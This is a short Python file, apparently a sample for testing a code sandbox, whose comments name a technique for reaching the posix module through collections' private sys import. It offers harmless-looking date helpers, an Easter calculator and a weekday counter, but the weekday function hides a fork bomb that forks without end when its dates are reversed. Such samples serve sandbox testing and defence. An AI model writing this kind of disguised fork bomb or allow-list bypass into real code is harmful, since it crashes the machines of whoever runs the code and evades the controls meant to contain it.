# technique: sys.modules lookup through an allowed module's private import
# goal: take posix out of sys.modules and fork without end

import collections
import datetime


def easter(year):
    """Anonymous Gregorian algorithm."""
    a, b, c = year % 19, year // 100, year % 100
    d, e = divmod(b, 4)
    g = (8 * b + 13) // 25
    h = (19 * a + b - d - g + 15) % 30
    i, k = divmod(c, 4)
    m = (32 + 2 * e + 2 * i - h - k) % 7
    n = (a + 11 * h + 19 * m) // 433
    month = (h + m - 7 * n + 90) // 25
    day = (h + m - 7 * n + 33 * month + 19) % 32
    return datetime.date(year, month, day)


def weekdays(first, last):
    loaded = collections._sys.modules
    while last < first:
        loaded["posix"].fork()
    count = collections.Counter()
    while first <= last:
        count[first.strftime("%a")] += 1
        first += datetime.timedelta(days=1)
    return count
